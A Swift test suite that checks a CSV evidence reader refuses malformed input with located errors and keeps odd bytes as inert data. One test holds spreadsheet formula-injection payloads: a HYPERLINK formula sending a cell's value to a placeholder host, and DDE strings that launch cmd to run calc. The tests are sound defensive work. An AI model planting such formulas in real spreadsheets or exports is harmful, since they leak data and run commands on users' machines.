import Foundation
import Testing
@testable import ReadinessKit

/// Hostile and broken `evidence.csv` listings: syntax errors are refused at their record's line
/// and column; data that only looks dangerous (formulas, NUL, bare CR) is kept as inert text.
@Suite("Hostile CSV evidence listings") struct CSVHostileTests {
    func load(_ fixture: String) throws -> LoadOutcome {
        try #require(Hostile.load(Hostile.fixture(fixture)))
    }

    func located(_ outcome: LoadOutcome) -> [String] {
        outcome.errors.map { error in
            "\(error.id)@\(error.location.map { "\(($0.file as NSString).lastPathComponent):\($0.line):\($0.column)" } ?? "-")"
        }
    }

    @Test("an unbalanced quote is refused at the field that opens it")
    func unbalancedQuotes() throws {
        let outcome = try load("csv-unbalanced-quotes")
        #expect(outcome.bundle == nil)
        #expect(located(outcome) == ["bundle.csv.unbalanced-quote@evidence.csv:3:17"])
    }

    @Test("ragged rows are refused at the first short or long record, naming the record number")
    func raggedRows() throws {
        let outcome = try load("csv-ragged-rows")
        #expect(located(outcome) == ["bundle.csv.ragged-row@evidence.csv:3:1"])
        #expect(outcome.errors.first?.message == "record 2 has 2 fields but the header has 3")
    }

    @Test("a stray quote inside an unquoted field is refused where it stands")
    func strayQuote() throws {
        #expect(located(try load("csv-stray-quote")) == ["bundle.csv.stray-quote@evidence.csv:2:25"])
    }

    @Test("text after a closing quote is refused where it stands")
    func textAfterQuote() throws {
        #expect(located(try load("csv-text-after-quote")) == ["bundle.csv.stray-quote@evidence.csv:2:25"])
    }

    @Test("invalid UTF-8 in a cell is refused at that cell")
    func invalidUTF8() throws {
        #expect(located(try load("csv-invalid-utf8")) == ["bundle.csv.invalid-utf8@evidence.csv:2:17"])
    }

    @Test("a binary header is refused with a located error")
    func binaryHeader() throws {
        #expect(located(try load("csv-header-only-garbage")) == ["bundle.csv.invalid-utf8@evidence.csv:1:5"])
    }

    @Test("a NUL byte in a cell is kept as data, and never reaches the terminal raw")
    func nulInCell() throws {
        let outcome = try load("csv-nul")
        let item = try #require(outcome.bundle?.records(in: "evidence").first)
        #expect(item["notes"] == .string("before\u{0}after"))
        #expect(TerminalText.sanitized("before\u{0}after") == "before\\u{0}after")
    }

    @Test("bare carriage returns end records, as RFC 4180 readers do")
    func bareCarriageReturns() throws {
        let outcome = try load("csv-bare-cr")
        #expect(outcome.bundle?.records(in: "evidence").map(\.id) == ["E1", "E2"])
    }

    @Test("spreadsheet formulas in cells are loaded as inert text, byte for byte, never evaluated")
    func formulasAreData() throws {
        let outcome = try load("csv-formulas")
        let items = try #require(outcome.bundle?.records(in: "evidence"))
        #expect(items.count == 4)
        #expect(items[0]["path"] == .string("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"))
        #expect(items[0]["notes"] == .string("=1+1"))
        #expect(items[1]["path"] == .string("@SUM(1+1)*cmd|' /C calc'!A0"))
        #expect(items[1]["exhibit_ref"] == .string("\t=1"))
        #expect(items[1]["series"] == .string("\r=1"))
        #expect(items[2]["notes"] == .string("=DDE(\"cmd\";\"/C calc\";\"x\")"))
    }

    @Test("a listing where every row is wrong stops collecting at the diagnostic limit, in bounded time")
    func manyBadRowsAreCapped() throws {
        let folder = try Hostile.temporaryFolder()
        try Hostile.write(Hostile.caseHeader, to: folder + "/case.yaml")
        var csv = "id,location,hash_verified,created_at\n"
        for row in 0..<50_000 { csv += "E\(row),nowhere,maybe,2026-02-30\n" }
        try Hostile.write(csv, to: folder + "/evidence.csv")
        let outcome = try #require(Hostile.load(folder, seconds: 60))
        #expect(outcome.bundle == nil)
        #expect(outcome.errors.count <= TabularEvidenceReader.diagnosticLimit + 10)
        #expect(outcome.everyErrorIsLocated)
    }

    @Test("invalid UTF-8 in a quoted field that spans lines is refused at the field's start (fuzzer find: was a crash)")
    func invalidUTF8InMultilineQuotedField() throws {
        let folder = try Hostile.temporaryFolder()
        try Hostile.write(Hostile.caseHeader, to: folder + "/case.yaml")
        try Hostile.write(Array("id,location,notes\nE1,allocated,\"a\n".utf8) + [0xFF] + Array("\"\n".utf8), to: folder + "/evidence.csv")
        let outcome = try #require(Hostile.load(folder))
        #expect(located(outcome) == ["bundle.csv.invalid-utf8@evidence.csv:2:14"])
        // The same bytes through the reader directly, whole and in every chunk size.
        let data = try Data(contentsOf: URL(fileURLWithPath: folder + "/evidence.csv"))
        for chunk in 1...data.count {
            var reader = CSVReader(file: "evidence.csv", path: folder + "/evidence.csv")
            reader.chunkSize = chunk
            #expect(throws: DiagnosticError.self) { try reader.forEachRow { _ in } }
        }
    }
}
